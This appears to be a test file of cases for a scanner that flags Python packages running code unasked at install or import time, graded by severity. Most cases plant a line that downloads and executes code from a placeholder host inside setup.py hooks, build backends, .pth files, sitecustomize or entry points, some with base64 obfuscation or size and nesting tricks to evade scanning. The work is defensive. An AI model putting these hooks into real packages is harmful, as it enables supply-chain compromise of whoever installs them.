"""Where code runs unasked: builds, hooks at the start of Python, entry points, submodules."""

# ruff: noqa: E501 - a case reads as the file that it is

from tests.evasion.case import CRITICAL, HIGH, MEDIUM, SETUP, Case

_FETCH = "import urllib.request\nexec(urllib.request.urlopen('https://example.invalid/a').read())\n"

PACKING = (
    Case("setup.py, at its top", MEDIUM, """
        import os
        from setuptools import setup
        os.system("id")
        setup(name="demo")
    """, SETUP),
    Case("setup.py, a chain at its top", CRITICAL, _FETCH + "from setuptools import setup\nsetup(name='demo')\n", SETUP),
    Case("cmdclass, install.run", CRITICAL, """
        import urllib.request
        from setuptools import setup
        from setuptools.command.install import install
        class Custom(install):
            def run(self):
                install.run(self)
                exec(urllib.request.urlopen("https://example.invalid/a").read())
        setup(name="demo", cmdclass={"install": Custom})
    """, SETUP),
    Case("cmdclass, a function that run calls", CRITICAL, """
        import urllib.request
        from setuptools import setup
        from setuptools.command.develop import develop
        def after():
            exec(urllib.request.urlopen("https://example.invalid/a").read())
        class Custom(develop):
            def run(self):
                super().run()
                after()
        setup(name="demo", cmdclass=dict(develop=Custom))
    """, SETUP),
    Case("cmdclass, made by a factory", CRITICAL, """
        import urllib.request
        from setuptools import setup
        from setuptools.command.install import install
        from setuptools.command.egg_info import egg_info
        def friendly(base):
            class Changed(base):
                def run(self):
                    exec(urllib.request.urlopen("https://example.invalid/a").read())
                    base.run(self)
            return Changed
        setup(name="demo", cmdclass={"install": friendly(install), "egg_info": friendly(egg_info)})
    """, SETUP),
    Case("cmdclass, a decorator on the class", CRITICAL, """
        import urllib.request
        from setuptools import setup
        from setuptools.command.install import install
        def friendly(command):
            old = command.run
            def run(self):
                exec(urllib.request.urlopen("https://example.invalid/a").read())
                old(self)
            command.run = run
            return command
        @friendly
        class Custom(install):
            pass
        setup(name="demo", cmdclass={"install": Custom})
    """, SETUP),
    Case("cmdclass, in keywords that are spread", CRITICAL, """
        import urllib.request
        import setuptools
        class Custom(setuptools.Command):
            def initialize_options(self): pass
            def finalize_options(self):
                exec(urllib.request.urlopen("https://example.invalid/a").read())
            def run(self): pass
        arguments = {"name": "demo"}
        arguments["cmdclass"] = {"build_py": Custom}
        setuptools.setup(**arguments)
    """, SETUP),
    Case("cmdclass, by atexit", CRITICAL, """
        import atexit, urllib.request
        from setuptools import setup
        from setuptools.command.install import install
        class Custom(install):
            def __init__(self, *args, **kwargs):
                super().__init__(*args, **kwargs)
                atexit.register(later)
        def later():
            exec(urllib.request.urlopen("https://example.invalid/a").read())
        setup(name="demo", cmdclass={"install": Custom})
    """, SETUP),
    Case("cmdclass, a command of the package", CRITICAL, """
        from setuptools import setup
        from demo_build.commands import Custom
        setup(name="demo", cmdclass={"install": Custom})
    """, SETUP, {
        "demo_build/__init__.py": "",
        "demo_build/commands.py": (
            "import urllib.request\nfrom setuptools.command.install import install\nclass Custom(install):\n"
            "    def run(self):\n        exec(urllib.request.urlopen('https://example.invalid/a').read())\n"
        ),
    }),
    Case("setup.py imports the package", CRITICAL, """
        from setuptools import setup
        from demo import __version__
        setup(name="demo", version=__version__)
    """, SETUP, {"demo/__init__.py": "__version__ = '1'\n" + _FETCH}),
    Case("setup.py executes another file", HIGH, """
        from setuptools import setup
        exec(open("demo/_post.py").read())
        setup(name="demo")
    """, SETUP, {"demo/_post.py": _FETCH, "demo/__init__.py": ""}),
    Case("setup.py starts another file", HIGH, """
        import subprocess, sys
        from setuptools import setup
        subprocess.run([sys.executable, "post.py"])
        setup(name="demo")
    """, SETUP, {"post.py": _FETCH, "demo/__init__.py": ""}),
    Case("a backend in the tree", CRITICAL, _FETCH + """
def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
    return "demo-1.0-py3-none-any.whl"
""", "_build/backend.py", {
        "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["_build"]\n',
    }),
    Case("a backend in the tree, in its hook", CRITICAL, """
        import urllib.request
        def build_wheel(wheel_directory, config_settings=None, metadata_directory=None):
            exec(urllib.request.urlopen("https://example.invalid/a").read())
            return "demo-1.0-py3-none-any.whl"
    """, "_build/backend.py", {
        "pyproject.toml": '[build-system]\nrequires = []\nbuild-backend = "backend"\nbackend-path = ["_build"]\n',
    }),
    Case("a line of a .pth file", CRITICAL, "import base64; exec(base64.b64decode('<B64>'))\n", "demo.pth"),
    Case("a .pth file that imports a module of the package", CRITICAL, "import demo_hook\n", "demo.pth",
         {"demo_hook.py": _FETCH}),
    Case("a .pth file with a tab", CRITICAL, "import\tos; exec(__import__('base64').b64decode('<B64>'))\n", "demo.pth"),
    Case("sitecustomize", CRITICAL, _FETCH, "sitecustomize.py"),
    Case("usercustomize", CRITICAL, _FETCH, "usercustomize.py"),
    Case("setup.py writes a .pth file", HIGH, """
        import site
        from setuptools import setup
        open(site.getsitepackages()[0] + "/x.pth", "w").write("import os; os.system('id')")
        setup(name="demo")
    """, SETUP),
    Case("an entry point of a tool that loads it", HIGH, """
        import urllib.request
        exec(urllib.request.urlopen("https://example.invalid/a").read())
        def pytest_configure(config): pass
    """, "demo/plugin.py", {"demo/__init__.py": ""}, points="pytest11 demo = demo.plugin"),
    Case("a script named like a command", HIGH, """
        import urllib.request
        def main():
            exec(urllib.request.urlopen("https://example.invalid/a").read())
    """, "demo/cli.py", {"demo/__init__.py": ""}, points="console_scripts pip = demo.cli:main"),
    Case("when called only", HIGH, """
        import urllib.request
        def update():
            exec(urllib.request.urlopen("https://example.invalid/a").read())
    """),
    Case("when a file of the package is run", HIGH, """
        import urllib.request
        if __name__ == "__main__":
            exec(urllib.request.urlopen("https://example.invalid/a").read())
    """),
    Case("five folders down", HIGH, "from .a.b.c.d import e\n", files={
        "pkg/a/__init__.py": "", "pkg/a/b/__init__.py": "", "pkg/a/b/c/__init__.py": "", "pkg/a/b/c/d/__init__.py": "",
        "pkg/a/b/c/d/e.py": _FETCH,
    }),
    Case("in a copy of a library with a long file", HIGH, "from ._vendor import big\n", files={
        "pkg/_vendor/__init__.py": "",
        "pkg/_vendor/big.py": "".join(f"def f{n}(a):\n    return a + {n}\n" for n in range(3000))
        + _FETCH + "".join(f"def g{n}(a):\n    return a * {n}\n" for n in range(3000)),
    }),
    Case("in a file of more than 512,000 bytes", HIGH, "# " + "x" * 600_000 + "\n" + _FETCH),
    Case("in a folder named build", HIGH, "from .build import tool\n", files={
        "pkg/build/__init__.py": "", "pkg/build/tool.py": _FETCH,
    }),
    Case("in a file without a suffix", HIGH, """
        #!/usr/bin/env python
        import urllib.request
        exec(urllib.request.urlopen("https://example.invalid/a").read())
    """, "demo-1.0.data/scripts/demo-tool", {"pkg/__init__.py": ""}),
    Case("in a .pyw file", HIGH, _FETCH, "pkg/start.pyw", {"pkg/__init__.py": ""}),
)  # fmt: skip
